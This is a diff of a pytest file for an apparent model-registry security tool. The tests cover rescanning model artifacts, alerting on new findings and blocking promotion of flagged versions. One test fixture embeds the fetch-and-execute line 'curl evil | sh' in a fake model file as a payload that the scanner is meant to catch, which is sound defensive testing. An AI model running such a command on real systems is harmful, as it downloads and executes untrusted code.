@@ -65,13 +65,28 @@ def new_rules(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]
 @pytest.fixture
 def opaque(project: Any, tmp_path: Path) -> Any:
     """Three versions of an opaque-format model; v1 then v2 then v3 promoted to production."""
-    v1 = project.log_model(_artifact(tmp_path, "m1.xfmt", b"weights: 1\n"), name="opaque")
-    v2 = project.log_model(_artifact(tmp_path, "m2.xfmt", b"weights: 2\n"), name="opaque")
-    v3 = project.log_model(_artifact(tmp_path, "m3.xfmt", b"weights: 3\nrun: curl evil | sh\n"), name="opaque")
+    v1 = project.log_model(_artifact(tmp_path, "m1.xfmt", b"weights: 1\n"), name="opaque", flavor="file")
+    v2 = project.log_model(_artifact(tmp_path, "m2.xfmt", b"weights: 2\n"), name="opaque", flavor="file")
+    v3 = project.log_model(_artifact(tmp_path, "m3.xfmt", b"weights: 3\nrun: curl evil | sh\n"),
+                           name="opaque", flavor="file")
     for mv in (v1, v2, v3):
         assert mv.scan_status == "clean"  # yesterday's scanner knew no XFMT rule
         project.promote(mv.ref, alias="production")
     return project
+
+
+def test_a_clean_rescan_keeps_the_version_promotable_and_the_chain_consistent(opaque: Any) -> None:
+    from bastion.gates.promotion import check_promotion
+
+    (opaque.root / "bastion-policy.yaml").write_text(
+        "version: 1\naliases:\n  staging:\n    requires: [scan]\n", encoding="utf-8")
+    assert rescan(opaque, "opaque:2").status == "clean"
+    decision = check_promotion(opaque, opaque.get_model("opaque:2"), "staging")
+    assert decision.allowed, decision.reasons  # the new report is the newest audited scan
+    r = runner.invoke(app, ["audit", "verify"])
+    # the re-scan report is audited; (main today also reports the registry's unaudited flavor documents)
+    assert "scan attachment" not in r.output, r.output
+    assert all("flavor attachment" in line for line in r.output.splitlines() if "mismatch" in line), r.output
 
 
 def test_unchanged_rules_rescan_clean_and_store_versions(opaque: Any) -> None:
@@ -103,12 +118,14 @@ def test_changed_rules_give_a_new_finding_alert_and_rollback(opaque: Any, new_ru
     assert opaque.get_model("opaque:3").scan_status == FINDING_STATUS
     alerts = [a for a in read_alert_log(opaque.home / "monitor" / "alerts.jsonl") if a.get("kind") == "alert"]
     assert [(a["rule"], a["severity"], a["model"]) for a in alerts] == [("rescan-finding", "critical", "opaque:3")]
-    # the server and the promotion rules refuse the version now
-    from bastion.gates.promotion import _scan_evidence
+    # the promotion rules (and the server, through the same evaluator) refuse the version now
+    from bastion.gates.promotion import check_promotion
 
-    reasons: list[str] = []
-    _scan_evidence(opaque, "opaque:3", opaque.get_model("opaque:3"), reasons)
-    assert reasons and "not clean" in reasons[0]
+    (opaque.root / "bastion-policy.yaml").write_text(
+        "version: 1\naliases:\n  staging:\n    requires: [scan]\n", encoding="utf-8")
+    decision = check_promotion(opaque, opaque.get_model("opaque:3"), "staging")
+    assert not decision.allowed and any("not clean" in r for r in decision.reasons), decision.reasons
+    assert check_promotion(opaque, opaque.get_model("opaque:2"), "staging").allowed
     # rescanning again: the finding is known now (no new alert), and the version stays refused
     again = rescan(opaque, "opaque:3")
     assert again.new_findings == () and again.exit_code == 1 and again.status == FINDING_STATUS
